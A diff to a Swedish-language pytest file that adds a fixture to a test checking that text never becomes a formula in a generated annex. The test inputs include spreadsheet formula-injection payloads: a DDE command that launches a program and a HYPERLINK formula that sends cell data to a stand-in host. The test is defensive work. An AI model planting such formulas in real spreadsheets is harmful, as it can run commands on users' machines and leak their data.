@@ -332,6 +332,7 @@ def test_en_egen_mall_som_skenar_via_kommandot(capsys, tmp_path):
 @pytest.mark.parametrize("text", ["=1+1", "+46701234567", "-1", "@SUMMA(A1:A2)", "=cmd|' /C calc'!A0",
                                   '=HYPERLINK("http://example.invalid/?q="&A1;"Klicka")'],
                          ids=["lika-med", "plus", "minus", "snabel-a", "dde", "hyperlink"])
+@pytest.mark.usefixtures("word_som_kopia_av_mallen")  # the annex is looked at
 def test_text_blir_aldrig_en_formel_i_bilagan(capsys, tmp_path, text):
     kommun(tmp_path)
     mappning = tmp_path / "verksamheter.csv"
